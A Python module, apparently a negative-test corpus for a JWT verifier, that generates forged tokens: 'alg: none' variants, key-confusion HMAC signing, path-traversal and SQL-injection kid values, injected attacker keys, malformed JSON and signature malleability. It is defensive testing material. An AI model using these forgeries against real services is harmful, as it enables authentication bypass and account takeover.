# SPDX-License-Identifier: Apache-2.0
"""Forged JWTs: what an attacker can make of a good token without the signing key."""
import base64
import hashlib
import hmac
import json

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from cryptography.hazmat.primitives.asymmetric.utils import (decode_dss_signature,
                                                               encode_dss_signature)
from jwcrypto import jwk

ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
ATTACKER = ec.generate_private_key(ec.SECP256R1())


def encode(data):
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def decode(text):
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def compact(value):
    return value if isinstance(value, bytes) else json.dumps(value, separators=(",", ":")).encode()


def sign(header, claims, key=ATTACKER):
    """A JWT signed with the attacker's own key."""
    text = encode(compact(header)) + "." + encode(compact(claims))
    r, s = decode_dss_signature(key.sign(text.encode(), ec.ECDSA(hashes.SHA256())))
    return text + "." + encode(r.to_bytes(32, "big") + s.to_bytes(32, "big"))


def mac(header, claims, key):
    text = encode(compact(header)) + "." + encode(compact(claims))
    return text + "." + encode(hmac.new(key, text.encode(), hashlib.sha256).digest())


class Material:
    """A good token and the public key it verifies with."""

    def __init__(self, token, jwks):
        self.token = token
        self.head, self.body, self.signature = token.split(".")
        self.header, self.claims = json.loads(decode(self.head)), json.loads(decode(self.body))
        self.jwk = jwks["keys"][0]
        key = jwk.JWK(**self.jwk)
        self.pem = key.export_to_pem()
        public = serialization.load_pem_public_key(self.pem)
        self.der = public.public_bytes(serialization.Encoding.DER,
                                       serialization.PublicFormat.SubjectPublicKeyInfo)
        self.point = public.public_bytes(serialization.Encoding.X962,
                                         serialization.PublicFormat.UncompressedPoint)

    def with_header(self, **changes):
        """The good token under a changed header, its signature kept, and signed by the attacker."""
        header = {**self.header, **changes}
        return [encode(compact(header)) + f".{self.body}.{self.signature}",
                sign(header, self.claims)]

    def with_raw_header(self, raw):
        return [encode(raw) + f".{self.body}.{self.signature}", sign(raw, self.claims)]

    def with_claims(self, **changes):
        claims = {k: v for k, v in {**self.claims, **changes}.items() if v is not ...}
        return self.with_raw_claims(compact(claims))

    def with_raw_claims(self, raw):
        return [f"{self.head}.{encode(raw)}.{self.signature}", sign(self.header, raw)]


def c1_none(m):
    for alg in ("none", "None", "NONE", "nOnE", "", 0, None, ["ES256"], {"a": 1}, True):
        head = encode(compact({**m.header, "alg": alg}))
        yield f"{head}.{m.body}."
        yield f"{head}.{m.body}.{m.signature}"
    bare = {k: v for k, v in m.header.items() if k != "alg"}
    yield f"{encode(compact(bare))}.{m.body}.{m.signature}"
    yield f"{m.head}.{m.body}."


def c2_confusion(m):
    text = json.dumps(m.jwk)
    keys = [m.pem, m.pem.strip(), m.der, m.point, m.point[1:], text.encode(),
            json.dumps(m.jwk, separators=(",", ":")).encode(), decode(m.jwk["x"]), b"",
            m.jwk["x"].encode(), m.jwk["kid"].encode()]
    for key in keys:
        for alg in ("HS256", "ES256"):
            yield mac({**m.header, "alg": alg}, m.claims, key)
    for alg in ("HS384", "HS512", "RS256", "PS256", "ES384", "ES512", "ES256K", "EdDSA", "es256"):
        yield from m.with_header(alg=alg)


def c3_kid(m):
    for kid in ("../../dev/null", "' OR 1=1--", "x" * 6000, "\0", 7, None, "", [], {},
                m.jwk["kid"] + "\0",
                m.jwk["kid"][:-1], m.jwk["kid"].swapcase()):
        yield from m.with_header(kid=kid)
    bare = {k: v for k, v in m.header.items() if k != "kid"}
    yield sign(bare, m.claims)


def c4_key_in_header(m):
    own = json.loads(jwk.JWK.from_pem(ATTACKER.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo)).export())
    yield from m.with_header(jwk=own)
    yield from m.with_header(jwk={**own, "kid": m.jwk["kid"]})
    yield from m.with_header(x5c=[base64.b64encode(m.der).decode()])
    yield sign({**m.header, "kid": own["kid"]}, m.claims)


def c5_crit(m):
    for changes in ({"crit": ["b64"], "b64": False}, {"crit": []}, {"crit": ["alg"]},
                    {"b64": False},
                    {"crit": ["unknown"], "unknown": 1}, {"crit": "exp"}, {"zip": "DEF"}):
        yield from m.with_header(**changes)


def c6_duplicate_keys(m):
    for name, value in (("alg", "none"), ("alg", "ES256"), ("kid", m.jwk["kid"]),
                        ("typ", "at+jwt")):
        yield from m.with_raw_header(compact(m.header)[:-1] + compact({name: value}).replace(b"{",
                                                                                             b",",
                                                                                             1))
    for name, value in (("exp", 9999999999), ("aud", m.claims["aud"]), ("scope", "admin"),
                        ("client_id", "admin"), ("jti", "x")):
        yield from m.with_raw_claims(compact(m.claims)[:-1] + compact({name: value}).replace(b"{",
                                                                                             b",",
                                                                                             1))


def c7_spelling(m):
    token = m.token
    yield token + "="
    yield f"{m.head}=.{m.body}.{m.signature}"
    yield f"{m.head}.{m.body}==.{m.signature}"
    yield f"{m.head}.{m.body}.{m.signature}=="
    yield token.replace("-", "+").replace("_", "/") if "-" in token or "_" in token else token + "+"
    yield f"{m.head}.{m.body}.{m.signature}A"
    yield f"{m.head}A.{m.body}.{m.signature}"
    # The last character of 64 bytes has four bits to spare: all other spellings decode alike.
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
    place = alphabet.index(m.signature[-1])
    for other in range(place // 16 * 16, place // 16 * 16 + 16):
        if other != place:
            yield m.token[:-1] + alphabet[other]


def c8_parts(m):
    yield from (f"{m.head}.{m.body}", f"{m.token}.{m.signature}", f"{m.token}.x.y", m.token + ".",
                "." + m.token, f"{m.head}..{m.signature}", f".{m.body}.{m.signature}", "..", "...",
                "." * 8000, f"{m.head}.{m.body}.{m.signature}.{m.head}.{m.body}", "A" * 8000)


def c9_json(m):
    for raw in (b"[" * 2000 + b"]" * 2000, b'{"a":' * 1000 + b"1" + b"}" * 1000, b"", b"{", b"null",
                b"[]", b"1", b'"x"', b"\xef\xbb\xbf" + compact(m.claims), compact(m.claims) + b"x",
                compact(m.claims) + b"\0", compact(m.claims)[:-1] + b',"x":"\\ud800"}',
                compact(m.claims)[:-1] + b',"x":"\xff"}', compact(m.claims)[:-1] + b',"x":1e400}',
                b"{" + b",".join(b'"k%d":1' % i for i in range(500)) + b"}"):
        yield from m.with_raw_claims(raw)
        yield from m.with_raw_header(raw)


def c10_times(m):
    now = m.claims["iat"]
    for exp in (str(now + 3600), now + 3600.5, -1, 0, None, True, [], 1e300, 2**63, 2**64, 10**30,
                ...,
                now + 999999):
        yield from m.with_claims(exp=exp)
    yield from m.with_claims(nbf=now + 9999)
    yield from m.with_claims(iat=now + 9999)
    yield from m.with_claims(iat=...)


def c11_audience(m):
    for aud in ("https://other.example/", [], [m.claims["aud"], 1], 5, None, {"a": 1},
                [[m.claims["aud"]]],
                ..., "", "*"):
        yield from m.with_claims(aud=aud)
    for iss in (m.claims["iss"] + "/", "", None, ..., "https://evil.example"):
        yield from m.with_claims(iss=iss)
    for typ in ("JWT", "at+JWT-x", "", None, "application/at+jwt2", "secevent+jwt"):
        yield from m.with_header(typ=typ)
    for name, value in (("scope", "alpha beta admin"), ("client_id", "other"), ("sub", "other"),
                        ("jti", "AAAA"), ("jti", ...), ("scope", 5), ("scope", ["alpha"])):
        yield from m.with_claims(**{name: value})


def c12_signature(m):
    signature = decode(m.signature)
    r, s = int.from_bytes(signature[:32], "big"), int.from_bytes(signature[32:], "big")
    text = f"{m.head}.{m.body}."

    def pair(a, b):
        return text + encode(a.to_bytes(32, "big") + b.to_bytes(32, "big"))

    edges = (0, 1, ORDER, ORDER + 1, 2**256 - 1)
    for edge in edges:
        yield pair(edge, s)
        yield pair(r, edge)
        yield pair(edge, edge)
    if r + ORDER < 2**256:
        yield pair(r + ORDER, s)
    yield text + encode(signature[:63])
    yield text + encode(signature + b"\0")
    yield text + encode(b"\0" + signature)
    yield text + encode(b"\0" * 64)
    yield text + encode(encode_dss_signature(r, s))
    yield text + encode(signature[32:] + signature[:32])


ROWS = {name.split("_")[0].upper() + "_" + name.split("_", 1)[1]: row
        for name, row in sorted(globals().items()) if name[0] == "c" and name[1:2].isdigit()}
